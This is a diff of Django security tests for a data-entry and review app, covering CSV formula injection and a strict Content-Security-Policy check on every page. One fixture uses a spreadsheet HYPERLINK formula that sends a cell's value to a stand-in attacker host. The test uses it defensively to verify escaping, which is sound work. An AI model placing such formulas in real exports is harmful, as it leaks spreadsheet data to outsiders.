@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import copy
 from datetime import timedelta
+from html.parser import HTMLParser
 
 import pytest
 from django.urls import reverse
@@ -14,8 +15,12 @@ from django.utils import timezone
 
 from dataentry import services
 from dataentry.models import Document, DocumentType, Entry
+from learning import services as audit_services
+from learning.models import AuditTask
+from learning.selectors import month_bounds, period_label
 from review import services as review_services
 from review.models import ReviewTask
+from tests.conftest import form_data, make_user
 
 pytestmark = pytest.mark.django_db(transaction=True)
 
@@ -65,10 +70,6 @@ def test_a_reviewer_whose_claim_expired_no_longer_sees_the_page(client, people, 
 # --- hole 9: audit findings need a second person ---------------------------------------------------
 
 def test_the_auditor_cannot_confirm_their_own_findings_a_second_reviewer_must(client, people, generated_samples):
-    from learning import services as audit_services
-    from learning.models import AuditTask
-    from learning.selectors import month_bounds, period_label
-    from tests.conftest import form_data, make_user
 
     doc = upload(generated_samples[2])
     entry = services.keying_claim_next(operator=people["operator1"])
@@ -136,17 +137,88 @@ def test_the_results_csv_leaves_empty_optional_fields_empty(client, people, gene
 
 
 def test_report_csvs_keep_names_that_look_like_formulas_as_text(client, people, generated_samples):
-    from django.utils import timezone as tz
-
-    from tests.conftest import make_user
-
     sneaky = make_user('=HYPERLINK("http://evil.example/?"&A1,"x")', "operator")
     doc = upload(generated_samples[5])
     entry = services.keying_claim_next(operator=sneaky)
     records = doc.entries.get(source=Entry.Source.MACHINE).records
     services.entry_submit(entry_id=entry.pk, operator=sneaky, records=records, version=entry.version)
     client.force_login(people["manager1"])
-    rows = csv_cells(client.get(reverse("reports:csv", args=["operators"]), {"period": tz.localdate().strftime("%Y-%m")}))
+    rows = csv_cells(client.get(reverse("reports:csv", args=["operators"]), {"period": timezone.localdate().strftime("%Y-%m")}))
     cells = [cell for row in rows for cell in row]
     assert "'" + sneaky.username in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], "no cell may start a formula"
+
+
+# --- hole 11: Content-Security-Policy ---------------------------------------------------------------
+
+class InlineCode(HTMLParser):
+    """Everything in a page that a strict CSP (script-src/style-src 'self') would refuse to run."""
+
+    def __init__(self):
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        attrs = dict(attrs)
+        if tag == "script" and not attrs.get("src") and attrs.get("type") != "application/json":
+            self.found.append("inline <script>")
+        if tag == "style":
+            self.found.append("<style> element")
+        for name, value in attrs.items():
+            if name == "style":
+                self.found.append(f"style attribute on <{tag}>")
+            if name.startswith("on"):
+                self.found.append(f"{name} handler on <{tag}>")
+            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
+                self.found.append(f"javascript: URL on <{tag}>")
+
+
+def test_every_page_carries_a_strict_csp_and_contains_nothing_it_would_block(client, people, generated_samples):
+    first, *_ = [upload(pdf) for pdf in generated_samples[6:9]]
+    entry = services.keying_claim_next(operator=people["operator1"])
+    keyed = copy.deepcopy(entry.document.entries.get(source=Entry.Source.MACHINE).records)
+    keyed[0]["new_post"] += "代理"
+    services.entry_submit(entry_id=entry.pk, operator=people["operator1"], records=keyed, version=entry.version)
+    task = review_services.review_claim_next(reviewer=people["reviewer1"])
+    agreed = services.keying_claim_next(operator=people["operator2"])
+    services.entry_submit(entry_id=agreed.pk, operator=people["operator2"], version=agreed.version,
+                          records=agreed.document.entries.get(source=Entry.Source.MACHINE).records)
+    audit_services.audit_select(*month_bounds(period_label()), share=1.0, seed=0)
+    auditor = make_user("auditor", "reviewer")
+    audit = audit_services.audit_claim_next(user=auditor)
+    open_entry = services.keying_claim_next(operator=people["operator1"])
+    period = {"period": timezone.localdate().strftime("%Y-%m")}
+    admin = make_user("root")
+    admin.is_staff = admin.is_superuser = True
+    admin.save()
+    visits = [
+        (None, reverse("login"), {}),
+        (people["operator1"], reverse("home"), {}),
+        (people["operator1"], reverse("keying_home"), {}),
+        (people["operator1"], reverse("keying", args=[open_entry.pk]), {}),
+        (people["reviewer1"], reverse("review_home"), {}),
+        (people["reviewer1"], reverse("review", args=[task.pk]), {}),
+        (auditor, reverse("learning:audit", args=[audit.pk]), {}),
+        (people["manager1"], reverse("documents"), {}),
+        (people["manager1"], reverse("document_detail", args=[first.pk]), {}),
+        (people["manager1"], reverse("queues"), {}),
+        (people["manager1"], reverse("results"), {}),
+        (people["manager1"], reverse("learning:exports"), {}),
+        (people["manager1"], reverse("learning:audits"), {}),
+        *[(people["manager1"], reverse(f"reports:{name}"), period) for name in ("overview", "accuracy", "cost", "people")],
+        (admin, reverse("admin:index"), {}),
+        (admin, reverse("admin:dataentry_document_changelist"), {}),
+    ]
+    for user, url, query in visits:
+        client.logout()
+        if user is not None:
+            client.force_login(user)
+        response = client.get(url, query)
+        assert response.status_code == 200, url
+        policy = response["Content-Security-Policy"]
+        directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if " " in d.strip())
+        assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'", policy
+        assert directives["default-src"] == "'none'" and directives["frame-ancestors"] == "'none'", policy
+        parser = InlineCode()
+        parser.feed(response.content.decode())
+        assert not parser.found, f"{url}: {parser.found}"
